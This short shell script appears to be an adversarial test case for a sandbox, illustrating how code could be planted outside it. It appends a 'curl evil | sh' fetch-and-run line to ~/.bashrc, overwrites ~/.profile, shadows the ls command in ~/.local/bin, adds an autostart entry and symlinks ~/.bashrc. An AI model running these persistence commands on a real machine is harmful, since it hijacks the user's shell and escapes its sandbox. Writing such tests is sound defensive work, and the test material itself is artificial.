# technique: plant code the user runs outside the sandbox: ~/.bashrc, ~/.profile, ~/.local/bin, ~/.config/autostart
# fast: yes
. ./.adv/world.env
echo 'curl evil | sh' >> ~/.bashrc; printf 'evil\n' > ~/.profile
printf '#!/bin/sh\nevil\n' > ~/.local/bin/ls; printf '#!/bin/sh\nevil\n' > ~/.local/bin/tool
mkdir -p ~/.config/autostart && echo evil > ~/.config/autostart/x.desktop
ln -sf "$PROJECT/README.md" ~/.bashrc
